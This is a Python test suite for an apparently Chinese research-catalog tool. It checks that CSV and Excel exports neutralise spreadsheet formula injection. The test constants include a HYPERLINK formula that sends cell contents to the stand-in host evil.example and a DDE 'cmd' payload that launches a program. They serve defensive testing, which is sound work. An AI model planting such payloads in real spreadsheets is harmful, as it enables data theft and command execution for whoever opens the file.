"""Specification of formula safety: record text never runs in a spreadsheet.

A record value starting with =, +, -, @, a tab or a carriage return would run
as a formula. Workbooks (exports, templates, reports) hold it as typed text;
CSV files put an apostrophe before it, and the import takes that off, so an
export still imports back without a change.
"""

from __future__ import annotations

import csv
import zipfile
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import yaml
from sheet_helpers import BATTERY, LYCHEE, ROBOT, TODAY, fill_template, records_of

from usefirst.catalog import load_catalog
from usefirst.cli import main
from usefirst.exitcodes import OK
from usefirst.reports.model import Report, Table
from usefirst.reports.xlsx import write_xlsx
from usefirst.repository import Repository
from usefirst.sheets.formulas import FORMULA_START, safe_cell, unguard
from usefirst.sheets.importer import ImportOptions, import_file
from usefirst.sheets.rows import SAME

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
CALC = "=cmd|' /C calc'!A0"
QUOTED = "'=保留原有的引号"
DANGEROUS = {
    ("title",): HYPERLINK,
    ("keywords",): ["@SUM(1+1)", QUOTED, "固态电池"],
    ("application_fields",): ["-负极材料", "+正极材料"],
    ("inventors", 0, "title"): CALC,
}


@pytest.mark.parametrize("start", FORMULA_START)
def test_csv_text_that_would_run_gets_an_apostrophe(start: str) -> None:
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "'=1+1",
        "''=1+1",
        "'普通文字",
        "'",
        "",
        "-5",
        "\t=1",
        "\r@x",
        "华南理工大学",
        "020-87110000",
    ],
)
def test_unguard_reads_back_every_guarded_text(text: str) -> None:
    assert unguard(safe_cell(text)) == text


def test_text_that_cannot_run_is_left_alone() -> None:
    assert safe_cell("一种固态电解质") == "一种固态电解质"
    assert safe_cell("'普通文字") == "'普通文字"
    assert safe_cell(500000) == 500000
    assert unguard("'普通文字") == "'普通文字"  # as typed: not an export's guard


def put(data: dict[str, Any], path: tuple[str | int, ...], value: Any) -> None:
    target: Any = data
    for part in path[:-1]:
        target = target[part]
    target[path[-1]] = value


@pytest.fixture
def dangerous(repository: Repository, tmp_path: Path) -> Repository:
    """The unit scut with three achievements, one holding formula-like text."""
    sheet = fill_template(
        repository, "achievement", [BATTERY, ROBOT, LYCHEE], tmp_path / "in.xlsx"
    )
    result = import_file(
        repository, sheet, "in.xlsx", ImportOptions(unit="scut", today=TODAY)
    )
    assert result.problems == []
    path = repository.catalog_dir / "scut" / "achievements" / "scut-2026-001.yaml"
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    for field_path, value in DANGEROUS.items():
        put(data, field_path, value)
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    assert load_catalog(repository, use_cache=False)[1] == []
    return repository


def export(repository: Repository, path: Path, *arguments: str) -> Path:
    command = ["--root", str(repository.root), "export", "-o", str(path), *arguments]
    assert main(command) == OK
    return path


def formulas_in(path: Path) -> list[str]:
    """List every formula element in the workbook's sheets, read from its XML."""
    with zipfile.ZipFile(path) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


def test_an_excel_export_holds_formula_like_text_as_text(
    dangerous: Repository, tmp_path: Path
) -> None:
    path = export(dangerous, tmp_path / "成果库.xlsx")
    assert formulas_in(path) == []
    sheet = openpyxl.load_workbook(path)["科技成果"]
    headers = [cell.value for cell in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "scut-2026-001")
    cells = dict(zip(headers, row, strict=True))
    for header, text in [
        ("成果名称", HYPERLINK),
        ("关键词", "；".join(DANGEROUS[("keywords",)])),
        ("成果完成人1.职称", CALC),
    ]:
        assert (cells[header].value, cells[header].data_type) == (text, "s")
    assert cells["成果名称"].quotePrefix is True  # stays text when edited in Excel


@pytest.mark.parametrize("name", ["成果库.xlsx", "成果.csv"])
def test_an_export_with_formula_like_text_imports_back_unchanged(
    dangerous: Repository, tmp_path: Path, name: str
) -> None:
    before = records_of(dangerous, "scut", "achievements")
    path = export(dangerous, tmp_path / name, "--unit", "scut")
    result = import_file(
        dangerous, path, path.name, ImportOptions(unit="scut", today=TODAY)
    )
    assert (result.problems, result.written) == ([], [])
    assert [row.action for row in result.rows] == [SAME, SAME, SAME]
    assert records_of(dangerous, "scut", "achievements") == before


def test_a_csv_export_quotes_formula_like_text(
    dangerous: Repository, tmp_path: Path
) -> None:
    path = export(dangerous, tmp_path / "成果.csv")
    rows = list(csv.DictReader(path.open(encoding="utf-8-sig")))
    battery = next(row for row in rows if row["记录标识"] == "scut-2026-001")
    assert battery["成果名称"] == "'" + HYPERLINK
    assert battery["成果完成人1.职称"] == "'" + CALC
    assert battery["应用领域"] == "'-负极材料；+正极材料"
    for row in rows:
        for value in row.values():
            assert not value.startswith(FORMULA_START), value


def test_a_report_in_excel_holds_formula_like_text_as_text(tmp_path: Path) -> None:
    report = Report(
        "测试报表",
        notes=["=1+1"],
        tables=[Table("明细", ["项目", "金额"], [[HYPERLINK, Decimal("1.5")]])],
    )
    path = tmp_path / "r.xlsx"
    write_xlsx(report, path)
    assert formulas_in(path) == []
    workbook = openpyxl.load_workbook(path)
    cell = workbook["明细"]["A2"]
    assert (cell.value, cell.data_type) == (HYPERLINK, "s")
    assert workbook["说明"]["A4"].value == "=1+1"
    assert workbook["明细"]["B2"].data_type == "n"
